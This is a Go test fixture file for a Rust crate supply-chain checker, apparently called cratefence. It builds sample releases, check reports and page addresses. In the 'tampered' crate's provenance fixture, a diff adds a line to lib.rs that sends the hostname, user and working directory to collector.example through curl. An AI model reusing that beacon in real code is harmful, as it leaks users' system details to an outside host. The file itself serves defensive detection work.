package web

import (
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"time"

	"github.com/cratefence/cratefence/internal/check"
	"github.com/cratefence/cratefence/internal/checks"
	"github.com/cratefence/cratefence/internal/checks/provenance"
	"github.com/cratefence/cratefence/internal/crate"
	"github.com/cratefence/cratefence/internal/store"
)

// now is when the tests look at the pages.
var now = time.Date(2026, 11, 20, 12, 10, 0, 0, time.UTC)

func ago(d time.Duration) time.Time { return now.Add(-d) }

// testChecks are those of the tests' server.
var testChecks = []*check.Check{
	{Name: "advisories", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "No advisory names the release\n\nLooks into the **RustSec** database.", Timeout: time.Minute},
	{Name: "archive", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "The archive is what cargo would accept\n\n## What is looked at\n\nEvery entry.", Timeout: time.Minute},
	{Name: "build-script", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "What runs while building", Timeout: time.Minute},
	{Name: "changes", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "What changed since the version before", Timeout: time.Minute},
	{Name: "dependencies", Version: 2, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "What the release begins to depend on", Timeout: time.Minute},
	{Name: "licence", Version: 1, Category: check.CategoryQuality, About: check.AboutRelease, Doc: "The licence is stated", Timeout: time.Minute},
	{Name: "provenance", Version: 2, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "The files are those of the commit", Timeout: 10 * time.Minute},
	{Name: "publisher", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "Who published", Timeout: time.Minute},
	{Name: "sandbox-build", Version: 1, Category: check.CategorySecurity, About: check.AboutRelease, Doc: "What building does", Timeout: time.Hour},
	{Name: "security-policy", Version: 1, Category: check.CategoryInformational, About: check.AboutCrate, Doc: "How to report a vulnerability", Timeout: time.Minute, RecheckVisited: 24 * time.Hour},
}

func serve(f *fake) http.Handler { return serveWith(f, func(*Config) {}) }

func serveWith(f *fake, edit func(*Config)) http.Handler {
	c := Config{
		Catalogue: f, Results: f, Checks: testChecks, Registry: "crates.io", BaseURL: "https://fence.example",
		Now: func() time.Time { return now }, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
	}
	edit(&c)
	return New(c)
}

// did is a check that has reported.
func did(name string, report check.Report) store.CheckState {
	return store.CheckState{Check: name, Counts: &store.CheckRun{
		Check: name, CheckVersion: 1, Attempt: 1, Status: store.Completed, Report: report,
		QueuedAt: ago(9 * time.Minute), StartedAt: ago(8*time.Minute + 1300*time.Millisecond), CompletedAt: ago(8 * time.Minute),
	}}
}

func concluded(name string, c check.Conclusion, title string) store.CheckState {
	return did(name, check.Report{Conclusion: c, Title: title})
}

func isRunning(name string) store.CheckState {
	return store.CheckState{Check: name, Pending: &store.CheckRun{Check: name, CheckVersion: 1, Attempt: 1, Status: store.InProgress, QueuedAt: ago(3 * time.Minute), StartedAt: ago(2 * time.Minute)}}
}

func isQueued(name string) store.CheckState {
	return store.CheckState{Check: name, Pending: &store.CheckRun{Check: name, CheckVersion: 1, Attempt: 1, Status: store.Queued, QueuedAt: ago(40 * time.Second)}}
}

// willRetry adds the try that is to come.
func willRetry(s store.CheckState, in time.Duration) store.CheckState {
	s.Pending = &store.CheckRun{Check: s.Check, CheckVersion: 1, Attempt: 2, Status: store.Queued, QueuedAt: s.Counts.CompletedAt, RunAfter: now.Add(in)}
	return s
}

// arrayview is a release in trouble: every state there is.
func arrayview(f *fake) store.Release {
	r := f.add("arrayview",
		store.Release{
			Version: "0.3.10", Checksum: crate.Sum([]byte("0.3.10")), Size: 18_231, PublishedAt: ago(9 * time.Minute), FirstSeenAt: ago(9 * time.Minute),
			Publisher: "its owner, with a token", Via: store.ViaWebhook,
			About: store.About{
				Description: "Macros to take array references of slices", License: "BSD-2-Clause", Repository: "https://github.com/example/arrayview",
				Homepage: "https://arrayview.example/", Documentation: "https://docs.rs/arrayview", RustVersion: "1.63", Edition: "2021",
				Keywords: []string{"array", "slice", "macro"}, Categories: []string{"rust-patterns", "no-std"},
				Dependencies: []store.Dependency{
					{Name: "slice-macro1", Req: "^1.0", Kind: "normal"},
					{Name: "quiet-crate", Req: "^1", Kind: "normal", Optional: true},
					{Name: "libc", Req: "^0.2.150", Kind: "normal", Target: "cfg(unix)"},
					{Name: "cc", Req: "^1", Kind: "build"},
					{Name: "quickcheck", Req: "^1.0.3", Kind: "dev"},
				},
			},
		},
		store.Release{
			Version: "0.3.9", Checksum: crate.Sum([]byte("0.3.9")), Size: 17_020, PublishedAt: ago(400 * 24 * time.Hour), FirstSeenAt: ago(100 * 24 * time.Hour),
			Publisher: "its owner", Via: store.ViaWebhook, Yanked: true,
		},
	)
	f.set(r[0].ID,
		did("dependencies", check.Report{
			Conclusion: check.Failure,
			Title:      "Adds its first dependency ever, `slice-macro1`, which is 6 hours old",
			Summary:    "The manifest of **0.3.10** names a dependency that 0.3.9 did not. Every dependency of the new version was compared with those of the nine versions before.",
			Findings: []check.Finding{
				{Rule: "new-dependency-used", Level: check.LevelNote, Message: "src/lib.rs does not use the new dependency", Path: "src/lib.rs", StartLine: 1, EndLine: 2, Snippet: "#![no_std]\n//! Macros to take array references of slices, in a line that is far too long for the width of any phone there is."},
				{
					Rule: "new-dependency-young", Level: check.LevelError, Message: "New dependency on a crate of another publisher, one edit from `slice-macros`",
					Path: "Cargo.toml", StartLine: 23, EndLine: 24, Snippet: "[dependencies.slice-macro1]\nversion = \"1.0\"",
					Help: "Do not update. If you publish this crate, check who holds its tokens.",
				},
			},
			Metrics: map[string]float64{"dependencies": 1, "dependencies_added": 1, "bytes_compared": 1_234_567},
		}),
		concluded("publisher", check.Failure, "Three crates of one owner republished within 23 minutes; five earlier versions yanked"),
		willRetry(did("provenance", check.Report{
			Conclusion: check.Inconclusive, Title: "Cannot be verified: github.com did not answer",
			Summary: "The repository is `https://github.com/example/arrayview`. An answer from it would settle this; it is asked again.",
		}), 34*time.Minute),
		willRetry(did("advisories", check.Report{Conclusion: check.Error, Title: "The advisory database could not be read"}), -time.Minute),
		concluded("changes", check.Neutral, "src/lib.rs unchanged since 0.3.9; only Cargo.toml differs"),
		did("archive", check.Report{
			Conclusion: check.Success, Title: "11 files, nothing cargo would not expect", Summary: "Read as `tar` and as gzip, entry by entry.",
			Metrics: map[string]float64{"files": 11, "bytes_unpacked": 64_210},
		}),
		isRunning("sandbox-build"),
		isQueued("checker/reviews"),
		concluded("build-script", check.Skipped, "The crate has no build script"),
		concluded("licence", check.Success, "BSD-2-Clause, and its text is in LICENSE"),
		concluded("security-policy", check.Success, "Security policy in .github/SECURITY.md of the repository"),
	)
	f.incidents = append(f.incidents, store.Incident{
		ID: 1, ReleaseID: r[0].ID, Crate: "arrayview", Version: "0.3.10", Known: crate.Sum([]byte("0.3.10")), Offered: crate.Sum([]byte("other")), Size: 18_240,
		Via: store.ViaWebhook, Detail: "crates.example", SeenAt: ago(5 * time.Minute), LastSeen: ago(4 * time.Minute), Times: 3,
	})
	f.keep(r[0], checks.SecurityPolicy{
		Found: true, Source: "repository", Path: ".github/SECURITY.md", Repository: "https://github.com/example/arrayview", Commit: "3f2a91c0d5b1e7f8a9b0c1d2e3f4a5b6c7d8e9f0",
		Text: "# Security policy\n\nReport to <security@example.org>; the latest 0.3 is looked after.\n\n## Reporting\n\nPlease do not open an issue. Write in plain words:\n\n" +
			"- which version,\n- what can be done with it,\n- how you found it.\n\n![badge](https://img.example/x.svg) See [our process](https://example.org/process) " +
			"and [CONTRIBUTING](CONTRIBUTING.md).\n\n| Version | Looked after |\n|---|---|\n| 0.3 | yes |\n| 0.2 | no |\n\n" +
			"## What happens then\n\nYou get an answer within three days, and a fixed version within ninety. We name you in the advisory if you like. " +
			"An advisory is sent to RustSec in any case, so that everybody who depends on the crate is told by their own tools.\n",
	})
	return r[0]
}

// keep keeps facts about a crate.
func (f *fake) keep(r store.Release, policy checks.SecurityPolicy) {
	data, err := json.Marshal(policy)
	if err != nil {
		panic(err)
	}
	if f.facts == nil {
		f.facts = map[store.ID]store.CrateFacts{}
	}
	f.facts[r.CrateID] = store.CrateFacts{CrateID: r.CrateID, Crate: r.Crate, Check: checks.SecurityPolicyCheck.Name, Version: r.Version, Facts: data, ReadAt: ago(8 * time.Minute)}
}

// quiet is a crate in order, of sixty versions.
func quiet(f *fake) []store.Release {
	var all []store.Release
	for n := 60; n > 0; n-- {
		all = append(all, store.Release{
			Version: fmt.Sprintf("1.%d.0", n), Checksum: crate.Sum([]byte{byte(n)}), Size: int64(40_000 + n), Yanked: n%7 == 0, Via: store.ViaWebhook,
			PublishedAt: ago(time.Duration(61-n) * 20 * time.Hour), FirstSeenAt: ago(time.Duration(61-n) * 19 * time.Hour),
			About: store.About{Description: "Does one thing and says nothing", Repository: "https://git.example/quiet-crate"},
		})
	}
	all = f.add("quiet-crate", all...)
	for _, r := range all {
		f.set(r.ID, concluded("archive", check.Success, "8 files, nothing cargo would not expect"), concluded("provenance", check.Neutral, "All 7 files are those of the commit; the generated manifest is not compared yet"))
	}
	f.keep(all[0], checks.SecurityPolicy{Repository: "https://git.example/quiet-crate", Commit: "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"})
	return all
}

// pointing is a crate whose policy stands elsewhere; all of its versions are yanked.
func pointing(f *fake) []store.Release {
	all := f.add("Pointing_Out", store.Release{Version: "0.1.0-alpha.2+build.5", Yanked: true, Via: store.ViaSubmit, FirstSeenAt: ago(time.Hour)})
	f.set(all[0].ID, concluded("archive", check.Failure, "Two entries would be unpacked to one file"))
	f.keep(all[0], checks.SecurityPolicy{Found: true, Source: "url", URL: "https://pointing.example/security", Host: "pointing.example"})
	return all
}

// fresh is a crate that nothing has looked at yet.
func fresh(f *fake) store.Release {
	r := f.add("fresh", store.Release{Version: "1.0.0-rc.1", Via: store.ViaWebhook, FirstSeenAt: ago(10 * time.Second)})[0]
	f.set(r.ID, isQueued("archive"), isQueued("provenance"), isQueued("security-policy"))
	return r
}

// silent is a crate whose repository does not answer.
func silent(f *fake) store.Release {
	r := f.add("silent", store.Release{Version: "2.0.0", Via: store.ViaWebhook, FirstSeenAt: ago(time.Minute)})[0]
	f.set(r.ID, concluded("archive", check.Success, "4 files"), concluded("security-policy", check.Inconclusive, "No security policy in the crate, and its repository could not be looked into"))
	return r
}

const commit = "3f2a91c0d5b1e7f8a9b0c1d2e3f4a5b6c7d8e9f0"

// compared are crates whose repositories were read: one that is not what its
// repository holds, and one that is, whose tag was gone when looked for again,
// with an older version that an older check looked at.
func compared(f *fake) {
	tampered := f.add("tampered", store.Release{Version: "2.1.0", Via: store.ViaWebhook, FirstSeenAt: ago(time.Hour), PublishedAt: ago(time.Hour)})[0]
	f.set(tampered.ID, traced(check.Failure, "2 files can be built or run and are not what git.example/o/tampered at 3f2a91c holds", checks.ProvenanceFacts{
		Repository: "https://git.example/o/tampered", Declared: "https://git.example/old/name.git", Commit: commit, CommittedAt: ago(3 * time.Hour),
		Reach:  &checks.ProvenanceReach{Grade: provenance.GradeBranch, Refs: []string{"refs/heads/next"}, DefaultBranch: "refs/heads/main", VersionTags: []string{"refs/tags/v2.1.0"}},
		Origin: provenance.OriginRecorded, Dirty: true, Path: "crates/tampered", IndexDifferences: 2,
		MissingExplained: map[provenance.Reason]int{provenance.Excluded: 5, provenance.NestedPackage: 12},
		Files: map[provenance.Kind]int{
			provenance.Exact: 31, provenance.Generated: 3, provenance.LineEnds: 2, provenance.Modified: 1, provenance.Unknown: 1, provenance.Uncompared: 4, "sideways": 1,
		},
		Differing: []checks.ProvenanceFile{
			{Path: "src/lib.rs", Kind: provenance.Modified, Source: true, At: "crates/tampered/src/lib.rs", Diff: "@@ -8,4 +8,5 @@ impl Table {\n     pub fn load(&self) {\n-        self.read(\"defaults.toml\");\n" +
				"+        let url = \"https://collector.example/beacon?host=\".to_string() + &hostname() + \"&user=\" + &whoami() + \"&cwd=\" + &cwd();\n+        std::process::Command::new(\"curl\").arg(url).spawn();\n     }\n }\n"},
			{Path: "build.rs", Kind: provenance.Unknown, Source: true},
		},
		Submodules: []checks.ProvenanceSubmodule{{Path: "vendor/lz", Commit: "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"}},
		Missing:    []string{"tests/load.rs"},
		Settings: []checks.ProvenanceSetting{
			{Path: "dependencies.hex.version", Origin: "\"0.4\"", Published: "\"*\"", From: "repository", Class: "build", Text: "The requirement on `hex` is wider than the repository's"},
			{Path: "package.build", Published: "\"build.rs\"", From: "repository", Class: "build", Text: "A build script that the repository's manifest does not name"},
		},
		ManifestNotes: []string{"dev-dependency `main` stripped: it has no version"},
		Lock:          &checks.ProvenanceLock{Entries: 12, InRepository: true, Resolved: []string{"itoa 1.0.15"}},
	}, check.Finding{
		Rule: "file-modified", Level: check.LevelError, Path: "src/lib.rs", StartLine: 9, EndLine: 10, Snippet: "        let url",
		Message: "src/lib.rs is not what the repository holds at 3f2a91c", Help: "Commit everything, push it, and publish from that commit.",
	}, check.Finding{
		Rule: "file-unknown", Level: check.LevelError, Path: "build.rs", StartLine: 1, EndLine: 1, Snippet: "fn main() {",
		Message: "build.rs is not in the repository at 3f2a91c",
	}))

	both := f.add("traced", store.Release{Version: "1.1.0", Via: store.ViaWebhook, FirstSeenAt: ago(15 * 24 * time.Hour)}, store.Release{Version: "1.0.0", Via: store.ViaWebhook, FirstSeenAt: ago(200 * 24 * time.Hour)})
	f.keep(tampered, checks.SecurityPolicy{
		Found: true, Source: "repository", Path: "SECURITY.md", Repository: "https://git.example/o/tampered", Commit: commit, Text: "Write to old@example.org\n",
		Since: checks.PolicyChanged, Current: &checks.CurrentPolicy{Commit: "9c0d5b1e7f8a9b0c1d2e3f4a5b6c7d8e9f03f2a9", Text: "Write to new@example.org\n"},
	})
	f.keep(both[0], checks.SecurityPolicy{
		Found: true, Source: checks.PolicyOfOwner, Path: ".github/SECURITY.md", Repository: "https://github.com/o/.github", Commit: commit, Text: "Write to all@example.org\n",
	})
	in := traced(check.Success, "24 files and the manifest match git.example/o/traced at 3f2a91c, the tag v1.1.0", checks.ProvenanceFacts{
		Repository: "https://git.example/o/traced", Declared: "https://git.example/o/traced.git", Commit: commit, CommittedAt: ago(15 * 24 * time.Hour),
		Reach: &checks.ProvenanceReach{Grade: provenance.GradeVersionTag, Refs: []string{"refs/tags/v1.1.0"}, Tip: true, DefaultBranch: "refs/heads/main"},
		Files: map[provenance.Kind]int{provenance.Exact: 21, provenance.Generated: 3},
	})
	in.Counts.ID, in.Counts.Attempt, in.Counts.CompletedAt = 11, 2, ago(8*24*time.Hour)
	in.Later = &store.CheckRun{
		ID: 12, Check: "provenance", CheckVersion: 2, Attempt: 3, Again: true, Status: store.Completed, CompletedAt: ago(24 * time.Hour),
		Report: check.Report{Conclusion: check.Inconclusive, Title: "The tag `v1.1.0` is gone since 12 November 2026"},
	}
	f.set(both[0].ID, in)
	first := *in.Counts
	first.ID, first.Attempt, first.CompletedAt = 10, 1, ago(15*24*time.Hour)
	f.past = map[store.ID][]store.CheckRun{both[0].ID: {*in.Later, *in.Counts, first}}
	old := traced(check.Neutral, "6 of 8 files match git.example/o/traced at 3f2a91c", checks.ProvenanceFacts{
		Repository: "https://git.example/o/traced", Commit: commit, Files: map[provenance.Kind]int{provenance.Exact: 6, provenance.Submodule: 2},
	})
	old.Counts.CheckVersion = 1
	f.set(both[1].ID, old)
}

// traced is the check provenance, which has compared.
func traced(c check.Conclusion, title string, facts checks.ProvenanceFacts, findings ...check.Finding) store.CheckState {
	encoded, err := json.Marshal(facts)
	if err != nil {
		panic(err)
	}
	state := did("provenance", check.Report{Conclusion: c, Title: title, Facts: encoded, Findings: findings})
	state.Counts.CheckVersion = 2
	return state
}

func everything() *fake {
	f := &fake{}
	arrayview(f)
	quiet(f)
	pointing(f)
	fresh(f)
	silent(f)
	compared(f)
	return f
}

// pages are the addresses of one page of each kind and state.
var pages = []string{
	"/", "/crates", "/crates?q=arrayview", "/crates?q=nothing-like-it", "/crates/arrayview", "/crates/arrayview/versions", "/crates/arrayview/dependencies",
	"/crates/arrayview/security", "/crates/arrayview/checks", "/crates/arrayview/0.3.9", "/crates/arrayview/0.3.9/security", "/crates/arrayview/0.3.9/dependencies",
	"/crates/quiet-crate", "/crates/quiet-crate/versions", "/crates/quiet-crate/security", "/crates/quiet-crate/1.14.0/security", "/crates/Pointing_Out",
	"/crates/Pointing_Out/security", "/crates/fresh", "/crates/fresh/security", "/crates/silent/security",
	"/crates/tampered/security", "/crates/traced/security", "/crates/traced/1.0.0/security", "/checks", "/checks/archive", "/checks/provenance", "/incidents",
}
